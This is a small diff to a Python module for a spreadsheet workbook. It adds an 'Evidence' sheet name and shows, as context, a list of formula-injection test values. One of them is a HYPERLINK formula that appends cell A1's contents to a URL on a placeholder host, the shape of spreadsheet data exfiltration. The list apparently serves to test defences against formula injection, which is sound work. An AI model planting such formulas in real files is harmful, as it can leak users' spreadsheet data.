@@ -31,6 +31,7 @@ SHEETS = [
     "Initiatives",
     "OKR alignment",
     "Data",
+    "Evidence",
 ]
 INJECTIONS = ['=HYPERLINK("http://x?"&A1)', "+1", "-2", "@SUM(1)", "{=1}"]
 HEADER = 3  # 1-based row of the table headers
